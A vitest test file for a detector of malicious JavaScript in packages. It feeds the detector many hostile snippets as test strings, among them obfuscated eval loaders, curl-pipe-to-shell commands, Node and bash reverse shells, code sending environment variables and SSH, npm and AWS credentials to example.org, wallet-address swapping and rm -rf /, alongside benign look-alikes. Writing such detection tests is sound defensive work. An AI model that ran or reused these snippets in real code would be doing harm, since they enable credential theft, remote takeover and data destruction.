import { describe, expect, it } from 'vitest';
import { judgeFile } from '../src/code/file-verdict.ts';

const judge = (text: string, path = 'index.js', runsAtInstall = false) => judgeFile({ path, text, runsAtInstall });
const rules = (...input: Parameters<typeof judge>): string[] => judge(...input).map(({ rule, severity }) => `${rule} ${severity}`);
const isHarm = (entry: string): boolean => / (?:HIGH|CRITICAL)$/.test(entry);

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const codes = (text: string): string => [...text].map((letter) => letter.charCodeAt(0)).join(',');
const payload = "console.log('harm')";

describe('code that does harm', () => {
  it.each([
    // Decoded and run.
    ['hidden-code', `eval(atob('${base64(payload)}'))`],
    ['hidden-code', `eval(Buffer.from('${hex(payload)}', 'hex').toString())`],
    ['hidden-code', `Function(atob('${base64(payload)}'))()`],
    ['hidden-code', `new Function(Buffer.from("${base64(payload)}", "base64").toString("utf8"))()`],
    ['hidden-code', `globalThis['ev' + 'al'](String.fromCharCode(${codes(payload)}))`],
    ['hidden-code', `(0, eval)(String.fromCharCode(...[${codes(payload)}]))`],
    ['hidden-code', `const e = eval; const c = '${base64(payload)}'; const d = atob(c); e(d)`],
    ['hidden-code', `import vm from 'node:vm'; vm.runInThisContext(Buffer.from('${base64(payload)}', 'base64').toString())`],
    ['hidden-code', `const { runInNewContext: run } = require('vm'); run(atob('${base64(payload)}'))`],
    ['hidden-code', `(() => {}).constructor(atob('${base64(payload)}'))()`],
    ['hidden-code', `[]['constructor']['constructor'](atob('${base64(payload)}'))()`],
    ['hidden-code', `const s = '${[...payload].toReversed().join('').replaceAll("'", "\\'")}'.split('').reverse().join(''); eval(s)`],
    ['hidden-code', `const z = require('zlib'); eval(z.inflateSync(Buffer.from('${base64('x')}', 'base64')).toString())`],
    ['hidden-code', `module._compile(Buffer.from('${base64(payload)}', 'base64').toString(), 'x')`],
    ['hidden-code', `eval(unescape('${[...payload].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('')}'))`],
    // Fetched and run.
    ['network-code', `eval(await (await fetch('https://example.org/a.js')).text())`],
    ['network-code', `fetch('https://example.org/a.js').then((r) => r.text()).then(eval)`],
    ['network-code', `fetch('https://example.org/a.js').then((r) => r.text()).then((code) => { new Function(code)() })`],
    ['network-code', `require('https').get('https://example.org/p', (res) => { let b = ''; res.on('data', (c) => b += c); res.on('end', () => eval(b)) })`],
    ['network-code', `import axios from 'axios'; const { data } = await axios.get('https://example.org/p'); eval(data.code)`],
    [
      'network-code',
      `const options = { hostname: 'example.org', path: '/p' }; require('http').request(options, (r) => r.on('data', (d) => eval(d.toString()))).end()`,
    ],
    ['network-command', `const { exec } = require('child_process'); fetch('https://example.org/c').then((r) => r.text()).then((c) => exec(c))`],
    [
      'network-command',
      `const net = require('net'), cp = require('child_process'); const s = new net.Socket(); s.on('data', (d) => cp.exec(d.toString())); s.connect(4444, '203.0.113.5')`,
    ],
    ['network-command', `const cp = require('child_process'); const c = await (await fetch('https://example.org/c')).text(); cp.spawn('sh', ['-c', c])`],
    // Commands.
    ['harmful-command', `require('child_process').exec('curl -s https://example.org/x.sh | sh')`],
    ['harmful-command', `require('child_process')['exec']('wget -qO- http://203.0.113.5/i | bash')`],
    ['harmful-command', `const cp = require('child' + '_process'); cp['ex' + 'ecSync']('curl http://example.org/a | sudo bash -s')`],
    ['harmful-command', `import { execSync as run } from 'node:child_process'; run(\`curl -o /tmp/x https://example.org/x && chmod +x /tmp/x && /tmp/x\`)`],
    [
      'harmful-command',
      `import { promisify } from 'util'; import cp from 'child_process'; const run = promisify(cp.exec); await run('echo ZWNobyBo | base64 -d | sh')`,
    ],
    ['harmful-command', `require('child_process').spawn('powershell', ['-nop', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'])`],
    ['harmful-command', `require('child_process').exec('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')`],
    ['harmful-command', `require('child_process').execSync('rm -rf /')`],
    ['harmful-command', `require('child_process').execSync('cat ~/.npmrc | curl -d @- https://example.org')`],
    ['hidden-command', `require('child_process').exec(Buffer.from('${base64('curl http://example.org')}', 'base64').toString())`],
    ['hidden-command', `const cmd = '${hex('whoami && id')}'; require('child_process').execSync(Buffer.from(cmd, 'hex').toString('utf8'))`],
    ['hidden-command', `const { exec: run } = require('node:child_process'); run(atob('${base64('id')}'))`],
    ['hidden-module', `require(Buffer.from('${hex('child_process')}', 'hex').toString())`],
    ['hidden-module', `const m = await import(atob('${base64('node:https')}'))`],
    // Secrets sent away.
    ['sends-environment', `fetch('https://example.org', { method: 'POST', body: JSON.stringify(process.env) })`],
    [
      'sends-environment',
      `const https = require('https'); const data = JSON.stringify({ ...process.env }); const r = https.request({ hostname: 'example.org', method: 'POST' }); r.write(data); r.end()`,
    ],
    ['sends-environment', `import axios from 'axios'; axios.post('https://example.org', process.env)`],
    [
      'sends-environment',
      `import { env } from 'node:process'; const all = { env, at: Date.now() }; await fetch('https://example.org?d=' + encodeURIComponent(JSON.stringify(all)))`,
    ],
    [
      'sends-environment',
      `let out = ''; for (const [k, v] of Object.entries(process.env)) out += k + v; require('dns').lookup(out + '.example.org', () => {})`,
    ],
    [
      'sends-secrets',
      `const fs = require('fs'), os = require('os'); fetch('https://example.org', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.npmrc') })`,
    ],
    [
      'sends-secrets',
      `import fs from 'node:fs/promises'; import path from 'node:path'; import os from 'node:os'; const key = await fs.readFile(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'); await fetch('https://example.org', { method: 'POST', body: key })`,
    ],
    [
      'sends-secrets',
      `const fs = require('fs'); fs.readFile(\`\${process.env.HOME}/.aws/credentials\`, (e, d) => { require('https').request('https://example.org', { method: 'POST' }).end(d) })`,
    ],
    [
      'sends-secrets',
      `const fs = require('fs'); const profile = 'nkbihfbeogaeaoehlefnkodbefgpgknn'; const w = fs.readFileSync('/x/' + profile + '/1.log'); require('axios').post('https://example.org', { w })`,
    ],
    ['sends-secrets', `const { execSync } = require('child_process'); execSync('curl -X POST -d "' + JSON.stringify(process.env) + '" https://example.org')`],
    ['sends-machine', `const os = require('os'); require('https').get('https://abc.oastify.com/?h=' + os.hostname() + '&u=' + os.userInfo().username)`],
    // Doors, wallets, worms.
    [
      'remote-shell',
      `var net = require("net"), sh = require("child_process").spawn("/bin/sh", []); var c = new net.Socket(); c.connect(4444, "203.0.113.5", function () { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c) })`,
    ],
    [
      'wallet-hook',
      `const to = ['0x${'a1'.repeat(20)}', '0x${'b2'.repeat(20)}']; const before = window.fetch; window.fetch = async (...a) => { const r = await before(...a); return r }; const swap = (t) => t.replace(/0x[a-fA-F0-9]{40}/g, to[0])`,
    ],
    ['wallet-hook', `const mine = '0x${'a1'.repeat(20)}', other = 'bc1q${'x0'.repeat(18)}'; ethereum.request = async (q) => { q.params[0].to = mine }`],
    ['worm', `require('child_process').execSync('./trufflehog filesystem / --json > out.json')`],
  ])('%s: %s', (rule, text) => {
    const found = rules(text);
    expect(
      found.some((entry) => entry.startsWith(`${rule} `) && isHarm(entry)),
      found.join('; '),
    ).toBe(true);
  });

  it.each([
    [`const os = require('os'); require('https').get('https://example.org/?h=' + os.hostname())`, 'sends-machine MEDIUM', 'sends-machine HIGH'],
    [`const load = async (url) => eval(await (await fetch(url)).text())`, 'loaded-code MEDIUM', 'network-code CRITICAL'],
  ])('weighs more when it runs at installation: %s', (text, later, atInstall) => {
    expect(rules(text)).toContain(later);
    expect(rules(text, 'install.js', true)).toContain(atInstall);
  });
  it('in TypeScript, in modules and in sloppy scripts', () => {
    expect(rules(`const x: string = atob('${base64(payload)}'); eval(x as string)`, 'a.ts')).toContain('hidden-code HIGH');
    expect(rules(`with (Math) { eval(atob('${base64(payload)}')) }`)).toContain('hidden-code HIGH');
    expect(rules(`#!/usr/bin/env node\nreturn eval(atob('${base64(payload)}'))`)).toContain('hidden-code HIGH');
    expect(rules(`export default <a>{eval(atob('${base64(payload)}'))}</a>`, 'a.jsx')).toContain('hidden-code HIGH');
  });
  it('is found by its text where it cannot be read as code, and that is said', () => {
    expect(rules(`this is not code; eval(atob("${base64(payload)}"))`)).toEqual(['hidden-code HIGH', 'unread UNKNOWN']);
    expect(rules('const = 1')).toEqual(['unread UNKNOWN']);
    expect(rules(`eval(atob('x'));${' '.repeat(3 * 1024 ** 2)}`)).toEqual(['hidden-code HIGH']);
  });
  it('that is unreadable on purpose is suspicious, and refused when it makes code as well', () => {
    const table = Array.from({ length: 60 }, (_, index) => `'\\x${(65 + (index % 26)).toString(16)}\\x6f\\x67${index}'`).join(',');
    const obfuscated = `var _0x1a2b=[${table}];(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1f4));var _0x2b3c=function(_0x4d5e,_0x6f70){_0x4d5e=_0x4d5e-0x0;var _0x8192=_0x1a2b[_0x4d5e];return _0x8192;};`;
    const found = rules(obfuscated);
    const armed = rules(`${obfuscated} eval(_0x2b3c('0x1') + _0x2b3c('0x2'));`);
    const jsfuck = '[+!+[]]+[+[]]+(![]+[])[+[]]+(!![]+[])[+!+[]]+([][[]]+[])[+[]]+(!![]+[])[+[]]+(!![]+[])[+[]]';
    expect(rules(jsfuck)).toContain('obfuscated-code MEDIUM');
    expect(rules(jsfuck, 'install.js', true)).toContain('obfuscated-code HIGH');
    expect(found).toContain('obfuscated-code MEDIUM');
    expect(rules(`${obfuscated} const _0x99aa = require(_0x2b3c('0x1'));`)).toContain('obfuscated-code HIGH');
    expect(armed).toContain('obfuscated-code HIGH');
  });
  it('cannot hide behind names that lead in circles, or behind depth', () => {
    const circle = Array.from({ length: 200 }, (_, index) => `let v${index} = v${(index + 1) % 200} + v${(index + 7) % 200};`).join('');
    const deep = `${'('.repeat(3000)}1${')'.repeat(3000)}`;
    const before = performance.now();
    expect(rules(`${circle} eval(v0); eval(atob('${base64(payload)}'))`)).toContain('hidden-code HIGH');
    expect(rules(`const d = [${deep}]; eval(atob('${base64(payload)}'))`).some((entry) => /hidden-code|unread/.test(entry))).toBe(true);
    const chain = Array.from({ length: 40 }, (_, index) => `const c${index + 1} = c${index} + c${index};`).join('');
    judge(`const c0 = 'x'; ${chain} eval(c40)`);
    expect(performance.now() - before).toBeLessThan(5000);
  });
});

describe('code of good faith', () => {
  it.each([
    ['a template engine makes code', `export const compile = (source) => new Function('data', source)`],
    ['the global object the old way', `const root = Function('return this')()`],
    ['a bundler loads a module with a computed name', `const load = (name) => require('./plugins/' + name)`],
    ['a server answers with the name of the machine', `const os = require('os'); require('http').createServer((q, r) => r.end(os.hostname())).listen(80)`],
    [
      'a client reads its own settings',
      `const fs = require('fs'), os = require('os'), path = require('path'); const config = JSON.parse(fs.readFileSync(path.join(os.homedir(), '.acme', 'config.json'))); fetch(config.url, { headers: { authorization: config.token } })`,
    ],
    ['one variable of the environment is sent', `fetch(process.env.API_URL, { headers: { authorization: 'Bearer ' + process.env.API_TOKEN } })`],
    ['a copy of the environment gives an address', `const env = { ...process.env }; await fetch(env.API_URL)`],
    ['settings are read from the environment', `const settings = readSettings(process.env); await fetch(settings.url, { body: settings.text })`],
    ['a program inherits the environment', `require('child_process').spawn('node', ['a.js'], { env: { ...process.env, X: '1' } })`],
    ['a program is started', `const { execFile } = require('child_process'); execFile('git', ['status'], (e, out) => console.log(out))`],
    ['curl is asked for its version', `require('child_process').execSync('curl --version')`],
    [
      'npm is run with a version from the registry',
      `const { execSync } = require('child_process'); const v = (await (await fetch('https://registry.example.org/x/latest')).json()).version; execSync('npm install x@' + v)`,
    ],
    ['an image is decoded', `const logo = Buffer.from('${base64('png'.repeat(200))}', 'base64'); require('fs').writeFileSync('logo.png', logo)`],
    ['WebAssembly is decoded', `const bytes = Uint8Array.from(atob('${base64('wasm')}'), (c) => c.charCodeAt(0)); await WebAssembly.instantiate(bytes)`],
    [
      'a binary is downloaded at installation',
      `const https = require('https'), fs = require('fs'); https.get('https://registry.example.org/binary.tgz', (r) => r.pipe(fs.createWriteStream('bin')))`,
    ],
    [
      'a download is piped from a program',
      `const { spawn } = require('child_process'); const z = spawn('gzip'); process.stdin.pipe(z.stdin); z.stdout.pipe(process.stdout)`,
    ],
    [
      'a terminal server starts a shell',
      `const { spawn } = require('child_process'); const sh = spawn('bash'); socket.on('message', (m) => sh.stdin.write(m))`,
    ],
    ['a wallet is asked', `const accounts = await window.ethereum.request({ method: 'eth_requestAccounts' })`],
    [
      'fetch is wrapped for tracing',
      `const original = globalThis.fetch; globalThis.fetch = async (...a) => { const t = Date.now(); try { return await original(...a) } finally { record(Date.now() - t) } }`,
    ],
    ['one contract has an address', `export const token = '0x${'a1'.repeat(20)}'; export const isAddress = (t) => /^0x[a-fA-F0-9]{40}$/.test(t)`],
    ['a chat bot sends', `fetch('https://discord.com/api/webhooks/1/x', { method: 'POST', body: JSON.stringify({ content: 'deployed' }) })`],
    ['obfuscated names in a minority', `const _0x1a2b = 1; export const a = 1, b = 2, c = 3; eval(a + b)`],
    ['a module is loaded by a split name, to keep bundlers away', `const cp = require('child' + '_process'); cp.execFile('git', ['log'])`],
    ['jsonp', `const script = document.createElement('script'); script.src = 'https://example.org/x.js'; document.head.append(script)`],
  ])('%s', (_what, text) => {
    expect(rules(text).filter(isHarm)).toEqual([]);
    expect(rules(text, 'install.js', true).filter(isHarm)).toEqual([]);
  });
});
